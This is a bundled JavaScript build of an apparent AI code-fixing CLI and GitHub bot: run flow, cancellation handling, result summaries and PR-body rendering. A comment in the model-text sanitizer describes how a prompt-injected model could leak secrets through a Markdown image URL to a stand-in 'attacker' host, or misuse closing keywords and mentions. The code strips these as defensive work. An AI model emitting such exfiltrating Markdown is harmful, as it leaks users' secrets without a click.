export const id = 331;
export const ids = [331];
export const modules = {

/***/ 4331:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

__webpack_require__.r(__webpack_exports__);
/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   CANCELLED: () => (/* binding */ CANCELLED),
/* harmony export */   EXIT: () => (/* binding */ EXIT),
/* harmony export */   againAfterCancel: () => (/* binding */ againAfterCancel),
/* harmony export */   exitCodeFor: () => (/* binding */ exitCodeFor),
/* harmony export */   runCommandLine: () => (/* binding */ runCommandLine)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _config_cli_args_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7668);
/* harmony import */ var _config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5589);
/* harmony import */ var _pipeline_index_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(4227);
/* harmony import */ var _report_cli_summary_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(4485);
/* harmony import */ var _security_redact_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(7733);
/* harmony import */ var _help_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(4875);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(3916);
/* harmony import */ var _model_cost_js__WEBPACK_IMPORTED_MODULE_8__ = __webpack_require__(919);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_9__ = __webpack_require__(9255);
/** `agent-fix run`: the engine on a local repository; stops after verification and prints what Delivery would do. */










const EXIT = { resolved: 0, unresolved: 1, usage: 2, runtime: 3 };
function exitCodeFor(result) {
    const status = (0,_pipeline_index_js__WEBPACK_IMPORTED_MODULE_3__/* .contractStatus */ .fh)(result.status);
    return status === 'resolved' ? EXIT.resolved : status === 'unresolved' ? EXIT.unresolved : EXIT.runtime;
}
/**
 * The project rules of the checkout (AGENTS.md files, CLAUDE.md, copilot instructions, .github/agent-fix.yml) from its
 * last commit. Not a repository yet, or no commit: none here, and the engine says what to fix.
 */
async function localRules(dir) {
    // Not a repository, or no commit: readLocalProjectRules fails with a GitError, and there are no rules.
    if (!node_fs__WEBPACK_IMPORTED_MODULE_0___default().existsSync(dir))
        return undefined;
    try {
        return await (0,_config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__/* .readLocalProjectRules */ .MR)(dir);
    }
    catch (error) {
        // No commit yet: the engine's own check says so.
        if (!(error instanceof _config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__/* .ProjectRulesError */ .DB))
            return undefined;
        throw error;
    }
}
/**
 * A cost budget needs a price: without one the run's cost is unknown and the budget would never stop it. Refused
 * before anything runs, with the fix.
 */
function assertPriced(config) {
    const { maxCostUsd, model } = config;
    if (!(0,_model_cost_js__WEBPACK_IMPORTED_MODULE_8__/* .budgetWithoutPrice */ .F_)(config))
        return;
    throw new _errors_js__WEBPACK_IMPORTED_MODULE_7__/* .ConfigError */ .x(`--max-cost ${maxCostUsd} cannot be enforced: agent-fix has no price for the model "${model}", so the run's cost ` +
        'is unknown; give its price with --price IN/CACHED/OUT (US dollars per 1M tokens, e.g. --price 0.15/0.075/0.60), ' +
        'add it to src/model/pricing.json and rebuild, use a model listed there, or drop --max-cost (--max-turns bounds ' +
        'the run too)');
}
/** The engine's settings under the project rules, applied as the Action applies them (flags win), and said. */
function underRules(engine, explicit, rules, say) {
    const applied = (0,_config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__/* .applyRulesToRunConfig */ .QG)(engine, explicit, rules);
    for (const note of applied.notes)
        say(`project rules: ${note}`);
    const found = [...(rules.instructionFiles ?? []).map((f) => f.path), ...(rules.file ? [_config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__/* .RULES_FILE */ .$Y] : [])];
    if (found.length || rules.nested?.length)
        say(`project rules (committed, HEAD): ${found.join(', ') || 'none at the top'}${rules.nested?.length ? `; ${rules.nested.length} AGENTS.md in subfolders, shown as the agent gets there` : ''}`);
    return applied.config;
}
/**
 * The steps, in order: parse the flags and split them into the slice each step reads; the project rules; the issue
 * (`--issue`: the task comes from GitHub); the engine; the summary; the delivery (`--open-pr`); the exit code.
 */
async function runCommandLine(argv) {
    // Known before the flags parse: a bad flag still gets its JSON line.
    const json = argv.includes('--json');
    const edits = onCancel(json, argv.includes('--dry-run'), argv.includes('--allow-dirty'));
    try {
        return await runFlow(argv, edits);
    }
    catch (err) {
        if (!json)
            throw err;
        const { code, message } = (0,_errors_js__WEBPACK_IMPORTED_MODULE_9__/* .exitCodeForError */ .Lo)(err);
        process.stderr.write(`agent-fix: ${message}\n`);
        process.stdout.write(`${JSON.stringify((0,_security_redact_js__WEBPACK_IMPORTED_MODULE_5__/* .redactDeep */ .KL)((0,_errors_js__WEBPACK_IMPORTED_MODULE_9__/* .errorJson */ .dF)(code, message)))}\n`);
        return code;
    }
}
async function runFlow(argv, edits) {
    const flags = (0,_config_cli_args_js__WEBPACK_IMPORTED_MODULE_1__.parseRunArgs)(argv);
    if (flags.help) {
        process.stdout.write(_help_js__WEBPACK_IMPORTED_MODULE_6__/* .RUN_HELP */ .W);
        return 0;
    }
    const { engine, explicit, issue, pr, output } = (0,_config_cli_args_js__WEBPACK_IMPORTED_MODULE_1__.runSlices)(flags);
    // Before any request: whatever the endpoint echoes back is then redacted from the first line on.
    (0,_security_redact_js__WEBPACK_IMPORTED_MODULE_5__/* .registerSecret */ .cl)(engine.apiKey);
    // Everything printed passes the redactor: an endpoint may echo the key back in an error body.
    const say = (line) => process.stderr.write(`${(0,_security_redact_js__WEBPACK_IMPORTED_MODULE_5__/* .redact */ .E$)(line)}\n`);
    // The rules come from the commit checked out now: with --pr that is the base, before the PR's head replaces it.
    const rules = await localRules(engine.repo);
    const config = rules ? underRules(engine, explicit, rules, say) : engine;
    assertPriced(config);
    const pull = pr ? await __webpack_require__.e(/* import() */ 703).then(__webpack_require__.bind(__webpack_require__, 8703)) : undefined;
    const pullStart = pr ? await pull.checkoutPullHead(engine.repo, pr, say) : undefined;
    const issueRun = issue ? await (await Promise.all(/* import() */[__webpack_require__.e(752), __webpack_require__.e(997), __webpack_require__.e(604)]).then(__webpack_require__.bind(__webpack_require__, 2604))).prepareIssueRun(issue, config, say) : undefined;
    const task = issueRun?.task ?? config.task;
    const section = (0,_config_project_rules_js__WEBPACK_IMPORTED_MODULE_2__/* .rulesTaskSection */ .yc)(rules);
    const result = await (0,_pipeline_index_js__WEBPACK_IMPORTED_MODULE_3__/* .runPipeline */ .aI)({ ...config, task: section ? `${task}\n\n${section}` : task }, {
        onProgress: say,
        onWarning: (line) => say(`warning: ${line}`),
        onEvent: (event) => {
            if (event.kind === 'edit')
                for (const f of event.files)
                    edits.add(f);
        },
        rules,
        testCommandFrom: pullStart?.head,
    });
    if (!output.json)
        process.stdout.write(`${(0,_report_cli_summary_js__WEBPACK_IMPORTED_MODULE_4__/* .humanSummary */ .U)(result)}\n${config.dryRun ? `${DRY_RUN}\n` : ''}`);
    if (result.status !== 'resolved' && result.changedFiles.length && !engine.dryRun) {
        process.stderr.write('The change is left in the work tree (git diff shows it); nothing was committed.\n');
    }
    if (pullStart)
        process.stderr.write(`${pull.leftOnPullHead(pullStart)}\n`);
    const delivered = issueRun ? await issueRun.deliver(result) : undefined;
    const code = delivered?.exitCode ?? exitCodeFor(result);
    if (output.json) {
        const failed = result.status === 'error' ? (0,_errors_js__WEBPACK_IMPORTED_MODULE_9__/* .errorJson */ .dF)(code, result.reason ?? 'the run failed') : {};
        const dry = config.dryRun ? { dry_run: true, note: DRY_RUN } : {};
        const line = { ...(0,_report_cli_summary_js__WEBPACK_IMPORTED_MODULE_4__/* .jsonSummary */ .f)(result), ...failed, exit_code: code, ...dry, ...delivered?.json };
        process.stdout.write(`${JSON.stringify((0,_security_redact_js__WEBPACK_IMPORTED_MODULE_5__/* .redactDeep */ .KL)(line))}\n`);
    }
    return code;
}
/** The last word of a `--dry-run`, in the summary and the JSON line alike. */
const DRY_RUN = 'dry run: nothing was committed or pushed, and the work tree is as it was';
/** The exit code of a cancelled run, as a shell reports a process that SIGINT ended. */
const CANCELLED = 130;
/**
 * SIGINT or SIGTERM, at any point: say what is kept, print the `--json` line, and exit 130. The exit undoes
 * everything agent-fix still holds (process/cleanup.ts: the commands' process groups, proof worktrees, private
 * indexes, homes, caches, owners and modes), synchronously, so a second Ctrl-C changes nothing. The agent's edits
 * are left in the work tree, uncommitted. Returns the set the run fills with the files edited so far.
 */
function onCancel(json, dryRun, allowDirty) {
    const edits = new Set();
    let cancelled = false;
    const cancel = (signal) => {
        // Listening stays on: a second signal during the synchronous clean-up must not fall to the default action
        // (killed by the signal, exit code lost, the clean-up cut short); it changes nothing.
        if (cancelled)
            return;
        cancelled = true;
        const files = [...edits];
        const kept = files.length
            ? `the agent's edits (${files.join(', ')}) are kept in the work tree as an uncommitted diff (git diff shows them${dryRun ? '; this was a dry run: git checkout -- FILES drops them' : ''})`
            : 'the agent had made no edit';
        const message = `cancelled (${signal}): ${kept}; nothing was committed, and agent-fix's worktrees, index, home and cache folders are removed, as is every file and folder a command made that no edit tool kept`;
        process.stderr.write(`agent-fix: ${message}\n`);
        if (json) {
            const fix = againAfterCancel(files, allowDirty);
            const line = { ...(0,_errors_js__WEBPACK_IMPORTED_MODULE_9__/* .errorJson */ .dF)(CANCELLED, message, fix), changed_files: files };
            process.stdout.write(`${JSON.stringify((0,_security_redact_js__WEBPACK_IMPORTED_MODULE_5__/* .redactDeep */ .KL)(line))}\n`);
        }
        process.exit(CANCELLED);
    };
    process.on('SIGINT', cancel);
    process.on('SIGTERM', cancel);
    return edits;
}
/**
 * What to do after a cancellation. The kept edits make the tree dirty, so the same command is refused (exit 2)
 * unless it already allows a dirty tree: name the two ways on.
 */
function againAfterCancel(edits, allowDirty) {
    if (!edits.length)
        return 'run the same command again to start over';
    if (allowDirty)
        return "run the same command again: with --allow-dirty it starts from the work tree as it is now, the agent's edits included";
    return ("the agent's edits make the work tree dirty, so the same command is refused: add --allow-dirty to start from " +
        'them, or set them aside with git stash (git stash pop brings them back) and run the same command again');
}


/***/ }),

/***/ 4539:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   S8: () => (/* binding */ markers),
/* harmony export */   at: () => (/* binding */ branchName)
/* harmony export */ });
/* unused harmony exports attemptMarker, taskMarker, reviewRoundMarker, ciRoundMarker, CI_STOP_MARKER */
/**
 * The bot's conventions on GitHub, shared by the stages that write them (deliver/, report/) and the ones that read
 * them back (trigger/): hidden markers in comments and PR bodies, bot branch names, what the 👀 reaction goes on.
 * They live one layer below all of those, so no stage has to import another for them.
 */
/** `agent-fix/issue-12`, `agent-fix/run-1a2b3c4`: the key is made safe for a ref name. */
function branchName(prefix, key) {
    const safeKey = key
        .replace(/[^A-Za-z0-9._-]+/g, '-')
        .replace(/^[-.]+|[-.]+$/g, '')
        .slice(0, 80) || 'task';
    return `${prefix}${safeKey}`;
}
/** Hidden marker recording that commit `sha` was attempted; loop guard for workflow_run. */
function attemptMarker(sha) {
    return `<!-- agent-fix:attempt ${sha} -->`;
}
function taskMarker(key) {
    return `<!-- agent-fix:task ${key} -->`;
}
/** Hidden marker counting review rounds on a bot PR (trigger/review.ts reads the highest one). */
function reviewRoundMarker(round) {
    return `<!-- agent-fix:review-round ${round} -->`;
}
/** Hidden marker counting CI rounds on a bot PR, with the fingerprint of the failure the round worked on. */
function ciRoundMarker(round, failure) {
    return `<!-- agent-fix:ci-round ${round} failure ${failure} -->`;
}
/** Hidden marker: CI rounds on this PR stopped because a round made no progress. */
const CI_STOP_MARKER = '<!-- agent-fix:ci-stop -->';
/** Every marker a run's comment or PR body carries; a CI round's marker carries the failure it worked on. */
function markers(f) {
    const round = !f.reviewRound
        ? ''
        : f.ciRound
            ? ciRoundMarker(f.reviewRound, f.ciRound.failure)
            : reviewRoundMarker(f.reviewRound);
    return [taskMarker(f.taskKey), f.attemptSha ? attemptMarker(f.attemptSha) : '', round].filter(Boolean).join('\n');
}


/***/ }),

/***/ 4485:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ humanSummary),
/* harmony export */   f: () => (/* binding */ jsonSummary)
/* harmony export */ });
/* harmony import */ var _verify_proof_level_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4836);
/* harmony import */ var _run_status_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(2533);
/* harmony import */ var _security_redact_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7733);
/* harmony import */ var _pr_body_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(8285);




/** Rows of the fail-to-pass table a terminal shows; the rest are counted (--json has them all). */
const CLI_TABLE_ROWS = 15;
/** Failing tests a terminal names; the rest are counted (--json's evidence.final.failing has them all). */
const CLI_FAILING_NAMED = 10;
function failingLine(ids) {
    const more = ids.length - CLI_FAILING_NAMED;
    const named = ids.slice(0, CLI_FAILING_NAMED).join(', ');
    return `failing after the change: ${named}${more > 0 ? ` and ${more} more (--json lists them all)` : ''}`;
}
function jsonSummary(result) {
    const final = result.evidence.final;
    return {
        status: (0,_run_status_js__WEBPACK_IMPORTED_MODULE_3__/* .contractStatus */ .f)(result.status),
        turns: result.turns,
        tests: {
            command: result.evidence.command,
            exit_code: final?.exitCode ?? null,
            passed: final?.counts?.passed ?? null,
            failed: final?.counts?.failed ?? null,
            // What the counts count: go test without -v counts packages, so `passed: 1` is one package, not one test.
            unit: final?.counts ? (final.unit ?? 'tests') : null,
        },
        changed_files: result.changedFiles.map((f) => f.path),
        usage: {
            prompt_tokens: result.usage.prompt_tokens,
            completion_tokens: result.usage.completion_tokens,
            cached_tokens: result.usage.cached_tokens,
        },
        cost_usd: result.costUsd,
        reason: result.reason ?? null,
        budget_exhausted: result.budgetExhausted ?? null,
        stopped: result.stopped ?? null,
        warnings: result.warnings ?? [],
        network_refused: result.networkRefused ?? [],
        // DESIGN guarantee 10: `layers` (each proof run on the pristine setup state, with a fresh layer), `none` without bwrap.
        proof_isolation: result.proofIsolation ?? (result.sandbox === 'none' ? 'none' : null),
        summary: result.summary ?? null,
        evidence: {
            command: result.evidence.command,
            baseline: brief(result.evidence.baseline),
            final: brief(final),
            integrity: result.evidence.integrity,
            fail_to_pass: result.evidence.fail_to_pass,
            proof_level: result.evidence.proof_level ?? null,
            ...(result.evidence.proof_level === 'suite' ? { proof_note: _verify_proof_level_js__WEBPACK_IMPORTED_MODULE_0__/* .SUITE_LEVEL_NOTE */ .xx } : {}),
            report_check: result.evidence.report_check ?? null,
        },
        instruction_files: result.instructionFiles ?? [],
    };
}
function brief(run) {
    if (!run)
        return null;
    return {
        exit_code: run.exitCode,
        passed: run.passed,
        counts: run.counts,
        unit: run.counts ? (run.unit ?? 'tests') : null,
        failing: run.failingIds,
        runner: run.runner,
        ...(run.errorLines?.length ? { errors: run.errorLines } : {}),
    };
}
function humanSummary(result) {
    const lines = [];
    const final = result.evidence.final;
    const baseline = result.evidence.baseline;
    const counts = (run) => run?.counts
        ? `${run.counts.passed}${run.unit === 'packages' ? ` package${run.counts.passed === 1 ? '' : 's'}` : ''} passed, ${run.counts.failed} failed`
        : `exit ${run?.exitCode}`;
    lines.push(`agent-fix: ${result.status.toUpperCase()}${result.reason ? ` (${result.reason})` : ''}`);
    lines.push(`tests: \`${result.evidence.command}\`  before: ${baseline ? counts(baseline) : 'not run'}  after: ${final ? counts(final) : 'not run'}`);
    // A red final run names its failing tests (a terminal's worth; --json has them all), or says why in the runner's
    // own words when it names none.
    if (final && !final.passed && final.failingIds.length)
        lines.push(failingLine(final.failingIds));
    if (final?.errorLines?.length)
        lines.push(`why the final run failed: ${final.errorLines.join(' | ')}`);
    const f2p = result.evidence.fail_to_pass;
    if (f2p) {
        const fixed = f2p.tests.filter((t) => t.before !== 'pass' && t.after === 'pass').length;
        const p2p = f2p.pass_to_pass;
        const unit = p2p.unit === 'packages' ? 'packages' : 'tests';
        const kept = p2p.checked
            ? `${Math.max(0, p2p.checked - p2p.broken.length)} of ${p2p.checked} ${unit} that passed before still pass`
            : `no ${unit} passed before to check`;
        const vanished = p2p.vanished ?? [];
        const failing = p2p.broken.filter((b) => !vanished.includes(b));
        lines.push(`proof: ${fixed} test(s) failed before the change and pass with it; ${kept}${failing.length ? ` (broken: ${failing.join(', ')})` : ''}`);
        if (vanished.length)
            lines.push(`vanished (ran before the change, not after; counted as broken): ${vanished.join('; ')}`);
        if (p2p.level === 'counts')
            lines.push('pass-to-pass checked by count: the baseline run named no passing test');
    }
    // The same table, proof level and integrity verdict as the PR body (report/pr-body.ts), capped for a terminal.
    if (f2p?.tests.length)
        lines.push('', ...(0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .failToPassTable */ .RJ)(f2p.tests, CLI_TABLE_ROWS), '');
    lines.push(...(0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .proofLevelLines */ .MB)({ proofLevel: result.evidence.proof_level, reportCheck: result.evidence.report_check }));
    if (result.proofIsolation === 'none' && final)
        lines.push(`⚠${(0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .proofIsolationSentence */ .YE)('none')}`);
    if (final) {
        lines.push(...(0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .integrityLines */ .jQ)({
            integrityFindings: result.evidence.integrity.findings.map((f) => `${f.path}: ${f.detail}`),
            integrityMode: result.evidence.integrity.mode,
            changedFiles: result.changedFiles,
        }));
    }
    const instructions = (0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .instructionFilesLine */ .wn)(result);
    if (instructions)
        lines.push(instructions);
    for (const w of result.warnings ?? [])
        lines.push(`⚠ ${w}`);
    const refused = (0,_pr_body_js__WEBPACK_IMPORTED_MODULE_2__/* .refusedHostsLine */ .IX)(result.networkRefused);
    if (refused)
        lines.push(`⚠ ${refused}`);
    if (result.changedFiles.length) {
        lines.push(`changed: ${result.changedFiles.map((f) => `${f.path} (+${f.added} −${f.removed})`).join(', ')}`);
    }
    const spent = result.usage.prompt_tokens + result.usage.completion_tokens > 0;
    const cost = !spent
        ? 'no model tokens spent'
        : result.costUsd === null
            ? 'cost unknown (no price for this model in src/model/pricing.json; --price gives one)'
            : `$${result.costUsd.toFixed(4)}`;
    lines.push(`turns: ${result.turns}; tokens: ${result.usage.prompt_tokens} prompt (${result.usage.cached_tokens} cached), ${result.usage.completion_tokens} completion; ${cost}; ${(result.durationMs / 1000).toFixed(1)} s`);
    if (result.summary)
        lines.push('', result.summary.trim());
    if (result.diff)
        lines.push('', result.diff.trimEnd());
    return (0,_security_redact_js__WEBPACK_IMPORTED_MODULE_1__/* .redact */ .E$)(lines.join('\n'));
}


/***/ }),

/***/ 4375:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ld: () => (/* binding */ modelPlainText),
/* harmony export */   ZW: () => (/* binding */ modelText)
/* harmony export */ });
/* unused harmony export inlineCode */
/**
 * Text the model wrote (its summary, its plan, its reason for stopping), made safe to post on GitHub. An injected
 * model can write anything, and GitHub acts on some Markdown by itself:
 * - `![x](https://attacker/p.png?d=SECRET)`: GitHub's image proxy fetches the URL as soon as anyone views the PR, so
 *   whatever the model put in it leaves without a click. Images are removed.
 * - links (`[x](url)`, reference links, autolinks, bare URLs) invite a click to the same place. They are removed; a
 *   bare URL stays readable as code, where GitHub does not link it.
 * - `Fixes #12` (close/closes/closed, fix/fixes/fixed, resolve/resolves/resolved, followed by #N, owner/repo#N or an
 *   issue URL) in a PR body or commit message closes that issue on merge; `@someone` pings people. Both are put in a
 *   code span, where GitHub detects neither. Only our own template's `Fixes #n` closes an issue.
 * HTML is escaped, so no tag (`<img>`, `<a>`, `<details>`) renders either.
 */
/** Closing keyword with its reference, as GitHub documents it (a colon after the keyword is allowed). */
const KEYWORD = String.raw `\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b:?`;
const REFERENCE = String.raw `(?:[\w.-]+\/[\w.-]+#\d+|#\d+|(?:https?:\/\/)?[^\s<>\x60]*\/(?:issues|pull)\/\d+)`;
const CLOSING = String.raw `${KEYWORD}(?:[ \t]+|[ \t]*\n[ \t]*)${REFERENCE}`;
/** What GFM autolinks without brackets: URLs with a scheme, `www.` hosts, e-mail addresses. */
const URL = String.raw `\b(?:https?|ftp|mailto|xmpp):[^\s<>\x60]+|\bwww\.[^\s<>\x60]+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+`;
/** `@user` and `@org/team`, as GitHub finds them (not inside a word, so e-mail addresses are not mentions). */
const MENTION = String.raw `(?<!\w)@[A-Za-z0-9][A-Za-z0-9-]*(?:\/[\w.-]+)?`;
const DANGEROUS = new RegExp(`${CLOSING}|${URL}|${MENTION}`, 'gi');
const IMAGE_INLINE = /!\[[^\]\n]*\]\([^)\n]*\)?/g;
const IMAGE_REFERENCE = /!\[[^\]\n]*\]\[[^\]\n]*\]/g;
const LINK_INLINE = /\[([^\]\n]*)\]\([^)\n]*\)?/g;
const LINK_REFERENCE = /\[([^\]\n]*)\]\[[^\]\n]*\]/g;
const LINK_DEFINITION = /^ {0,3}\[[^\]\n]+\]:.*$/gm;
function longestBacktickRun(text) {
    return Math.max(0, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
}
/** Escapes HTML and breaks whatever link or image syntax survived the removal above (`](`, `![`). */
function plain(text) {
    return text
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/\]\(/g, ']\\(')
        .replace(/\]\[/g, ']\\[')
        .replace(/!\[/g, '!\\[');
}
/** Markdown for model-written text: no image, no link, no closing keyword, no mention, no HTML. */
function modelText(text) {
    const stripped = text
        .replace(/\r\n?/g, '\n')
        .replace(IMAGE_INLINE, '(image removed)')
        .replace(IMAGE_REFERENCE, '(image removed)')
        .replace(LINK_DEFINITION, '')
        .replace(LINK_INLINE, '$1')
        .replace(LINK_REFERENCE, '$1');
    // A code span closes only on a backtick run of its own length: one longer than any run in the text cannot be
    // closed, opened or swallowed by the text's own backticks.
    const fence = '`'.repeat(longestBacktickRun(stripped) + 1);
    let out = '';
    let last = 0;
    for (const m of stripped.matchAll(DANGEROUS)) {
        out += plain(stripped.slice(last, m.index));
        // A backtick or backslash right before the fence would change its length or escape it.
        if (/[`\\]$/.test(out))
            out += ' ';
        out += `${fence}${m[0]}${fence}`;
        last = m.index + m[0].length;
        if (stripped[last] === '`')
            out += ' ';
    }
    return out + plain(stripped.slice(last));
}
/**
 * A name GitHub supplies and its owner chose (a branch, a fork's `owner/name`, a file path) as inline code in
 * Markdown: a code span whose fence is longer than any backtick run in the name, so the name cannot close it and step
 * out into live Markdown (``x`@acme/team<br>`` would otherwise mention a team and break the line). Inside a code span
 * GitHub renders no HTML, link or mention. Line breaks and other controls become spaces: a blank line would end the
 * paragraph, and the span with it.
 */
function inlineCode(name) {
    const flat = name.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ' ');
    const fence = '`'.repeat(longestBacktickRun(flat) + 1);
    // A span that starts or ends with a backtick needs a space inside its fence (CommonMark strips one on each side).
    const pad = /^`|`$/.test(flat) || /^ .* $/.test(flat) ? ' ' : '';
    return `${fence}${pad}${flat}${pad}${fence}`;
}
/**
 * The same protection for plain text that GitHub still reads for references (commit messages, where a closing
 * keyword closes the issue once the commit reaches the default branch): the keyword is separated from its reference
 * (GitHub needs them adjacent), and mentions go in backticks. Nothing renders there, so links and HTML stay as they are.
 */
function modelPlainText(text) {
    const fence = '`'.repeat(longestBacktickRun(text) + 1);
    return text
        .replace(new RegExp(`(${KEYWORD})(?:[ \\t]+|[ \\t]*\\n[ \\t]*)(${REFERENCE})`, 'gi'), '$1 issue $2')
        .replace(new RegExp(MENTION, 'g'), (m) => `${fence}${m}${fence}`);
}


/***/ }),

/***/ 8285:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  RJ: () => (/* binding */ failToPassTable),
  wn: () => (/* binding */ instructionFilesLine),
  jQ: () => (/* binding */ integrityLines),
  YE: () => (/* reexport */ proofIsolationSentence),
  MB: () => (/* binding */ proofLevelLines),
  IX: () => (/* reexport */ refusedHostsLine),
  BN: () => (/* binding */ renderPrBody)
});

// UNUSED EXPORTS: BODY_LIMIT, PR_PERMISSION_SETTING, codeBlock, describeRun, details, escapeText, evidenceSection, fit, parsePriorBody, renderErrorComment, renderPrComment, renderPushFailedComment, renderRefusedComment, renderStartComment, renderUnresolvedComment, roundName, sandboxLine, testsSummary, usageLine

// EXTERNAL MODULE: ./src/github/protocol.ts
var protocol = __webpack_require__(4539);
// EXTERNAL MODULE: ./src/verify/integrity.ts + 7 modules
var integrity = __webpack_require__(7517);
// EXTERNAL MODULE: ./src/report/model-text.ts
var model_text = __webpack_require__(4375);
;// CONCATENATED MODULE: ./src/report/pass-to-pass.ts
/** The pass-to-pass lines of the PR body and the job summary: the baseline's tests kept, broken and vanished. */

/** Pass-to-pass as one line: the baseline's tests kept, broken and vanished, and whether it was checked by count. */
function passToPassLines(p) {
    if (!p)
        return [];
    const unit = p.unit === 'packages' ? 'packages' : 'tests';
    const kept = p.checked
        ? `${p.checked - Math.min(p.checked, p.broken.length - (p.vanished?.length ?? 0))} of ${p.checked} ${unit} that passed before still pass`
        : `no ${unit} passed before to check`;
    const out = [`Pass-to-pass: ${kept}.`];
    const failing = p.broken.filter((b) => !p.vanished?.includes(b));
    if (failing.length)
        out.push(`- ❌ broken: ${failing
            .slice(0, 10)
            .map((b) => `\`${b.replace(/`/g, "'")}\``)
            .join(', ')}`);
    if (p.vanished?.length)
        out.push(`- ❌ ran before the change and not after it (vanished, counted as broken): ${p.vanished
            .slice(0, 10)
            .map((b) => (0,model_text/* modelText */.ZW)(b))
            .join('; ')}`);
    if (p.level === 'counts')
        out.push('- Checked by count: the baseline run named no passing test, so a vanished passing test shows as a number, not by name.');
    return out;
}

;// CONCATENATED MODULE: ./src/report/sandbox-lines.ts
/** One line on the sandbox in force: `none` is said plainly, never left for the reader to infer. */
function sandboxLine(f) {
    if (!f.sandbox)
        return '';
    const what = f.sandbox.mode === 'none'
        ? 'none: commands ran without file-system or network isolation (explicit opt-out)'
        : `${f.sandbox.mode}: commands ran isolated (read-only root, ${f.sandbox.network && f.sandbox.network !== 'none' ? `network: ${f.sandbox.network}` : 'no network'}, secrets out of reach)`;
    const changed = f.sandbox.changes?.length ? `; to set it up agent-fix ${f.sandbox.changes.join(' and ')}` : '';
    const ignored = f.sandbox.ignoredFiles ? ` Snapshots: ${f.sandbox.ignoredFiles}.` : '';
    return `Sandbox: ${what}${changed}.${ignored}${proofIsolationSentence(f.sandbox.proofIsolation)}`;
}
/** The proof's isolation in one sentence (the CLI's --json says it as `proof_isolation`). */
function proofIsolationSentence(isolation) {
    if (isolation === 'layers')
        return " Proof isolation: layers: every proof run saw the home and the dependency folders as setup left them, under a fresh layer thrown away afterwards; nothing the agent's commands wrote there reached it.";
    if (isolation === 'none')
        return " Proof isolation: none: without the sandbox the proof runs share the home, the caches and the dependency folders the agent's commands wrote, so the proof is only as sound as what those commands left there.";
    return '';
}
/**
 * What the allowlist proxy refused, so a maintainer can widen `network` if the tests needed it; empty when nothing was.
 * Shared by the job summary and the CLI.
 */
function refusedHostsLine(refused) {
    if (!refused?.length)
        return '';
    const hosts = refused.map((r) => `${r.host}:${r.port} (${r.count}×${r.reason === 'not in the allowed domains' ? '' : `, ${r.reason}`})`);
    return (`Network: the proxy refused ${refused.length} host${refused.length === 1 ? '' : 's'}: ${hosts.join(', ')}. ` +
        'If the tests need them, add them to the `network` input (CLI: --network).');
}

;// CONCATENATED MODULE: ./src/report/pr-body.ts
/**
 * Markdown for the pull-request body and the progress comment. Pure functions over the run's facts. Bodies carry a
 * hidden marker (idempotency: which task, which commit was attempted) and stay under GitHub's 65,536-character limit
 * by cutting the longest blocks (test output, diff) first. Text that came from users or the model goes through
 * `modelText`: no HTML, images, links, live mentions or closing keywords, so only our own `Fixes #n` closes an issue.
 */






const BODY_LIMIT = 65_536;
/** Headroom under the limit for the redactor's replacements and GitHub's own counting. */
const TARGET = 60_000;
const PRIOR_MAX = 6_000;
const clip = (text, max) => text.length > max ? `${text.slice(0, max)}\n\n[… ${text.length - max} characters cut]` : text;
/** Reads the sections of an earlier agent-fix PR body back, so a review round keeps them instead of replacing them. */
function parsePriorBody(body) {
    const text = body.replace(/\r\n/g, '\n');
    const section = (title) => {
        const at = text.indexOf(`\n### ${title}\n`);
        if (at < 0)
            return undefined;
        const rest = text.slice(at + title.length + 6);
        const end = rest.search(/\n### |\n<!-- agent-fix:/);
        const got = (end < 0 ? rest : rest.slice(0, end)).trim();
        return got ? clip(got, PRIOR_MAX) : undefined;
    };
    const asked = /^\*\*Asked:\*\* (.+)$/m.exec(text)?.[1]?.trim();
    return {
        asked: asked ? clip(asked, 2_000) : undefined,
        summary: section('Summary'),
        rounds: section('Review rounds'),
    };
}
/** "review round 2" or "CI round 1". */
function roundName(f) {
    return `${f.ciRound ? 'CI' : 'review'} round ${f.reviewRound}`;
}
